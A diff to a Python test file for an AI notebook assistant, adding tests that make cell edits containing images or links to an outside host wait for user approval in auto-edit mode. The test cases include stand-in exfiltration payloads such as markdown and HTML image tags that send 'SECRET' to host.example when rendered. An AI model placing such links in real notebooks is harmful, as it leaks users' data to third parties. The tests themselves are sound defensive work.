@@ -10,7 +10,8 @@ import pytest
 from jupyter_copilot import protocol as p
 from jupyter_copilot.agent.settings import RunSettings
 from jupyter_copilot.core import state as s
-from jupyter_copilot.ports.notebook import version_of
+from jupyter_copilot.ports.model import ToolRequest
+from jupyter_copilot.ports.notebook import Cell, version_of
 from jupyter_copilot.testing import Answer, ScriptedRun
 from jupyter_copilot.testing.model import call
 from jupyter_copilot.tools.builtin.asking import AskUserTool
@@ -137,6 +138,53 @@ async def test_in_auto_edit_edits_need_nobody_and_executions_still_do() -> None:
         assert stage.notebook.cells[0].source == "x = 2"
         await stage.decide("m1.r1.s1.a1.c2.q")
         assert (await stage.over()).outcome == "success"
+
+
+@pytest.mark.parametrize(
+    "request_of_the_model",
+    [
+        call("insert_cell", after="a", cell_type="markdown", source="![](http://host.example/?d=SECRET)"),
+        call("insert_cell", after="a", cell_type="raw", source="<img src=//host.example/?d=SECRET>"),
+        call("edit_cell", cell_id="m", expected_version=version_of("# Hi", "markdown"), source="http://host.example"),
+        call("edit_cell", cell_id="m", expected_version=version_of("# Hi", "markdown"), old_text="Hi", new_text="http://host.example"),
+        call("set_cell_type", cell_id="c", expected_version=version_of("![](//host.example)"), cell_type="markdown"),
+        call(
+            "edit_notebook",
+            changes=[
+                {"action": "edit_cell", "cell_id": "a", "expected_version": version_of("x = 1"), "source": "# <b>"},
+                {"action": "insert_cell", "after": None, "cell_type": "markdown", "source": "[a]: //host.example"},
+            ],
+        ),
+    ],
+    ids=["insert", "raw", "edit", "part", "retype", "several"],
+)  # fmt: skip
+async def test_in_auto_edit_what_fetches_when_it_is_drawn_waits_for_people_who_are_told_the_host(
+    request_of_the_model: ToolRequest,
+) -> None:
+    cells = [
+        cell("a", "x = 1"),
+        Cell(cell_id="m", cell_type="markdown", source="# Hi"),
+        cell("c", "![](//host.example)"),
+    ]
+    async with Stage(Answer(calls=[request_of_the_model]), "Done.", cells=cells) as stage:
+        await stage.do(p.SetMode(thread_id=p.MAIN_THREAD, mode="auto_edit"))
+        await stage.post()
+        await stage.asked("m1.r1.s1.a1.c1.q")
+        assert "fetch from host.example" in stage.state.confirmations["m1.r1.s1.a1.c1.q"].body
+        assert operations(stage.notebook, "apply") == []
+        await stage.decide("m1.r1.s1.a1.c1.q", "deny")
+        await stage.over()
+        assert operations(stage.notebook, "apply") == []
+
+
+async def test_in_auto_edit_prose_and_formulas_need_nobody() -> None:
+    text = "# Results\n\nThe mean is $\\bar{x} = \\frac{1}{n} \\sum x_i$, **not** a < b.\n\n```python\nx[0]\n```"
+    insert = call("insert_cell", after="a", cell_type="markdown", source=text)
+    async with Stage(Answer(calls=[insert]), "Done.", cells=[cell("a", "x = 1")]) as stage:
+        await stage.do(p.SetMode(thread_id=p.MAIN_THREAD, mode="auto_edit"))
+        await stage.post()
+        await stage.over()
+        assert stage.notebook.cells[1].source == text
 
 
 async def test_calls_that_cannot_be_made_ask_nobody_and_go_back_to_the_model() -> None:
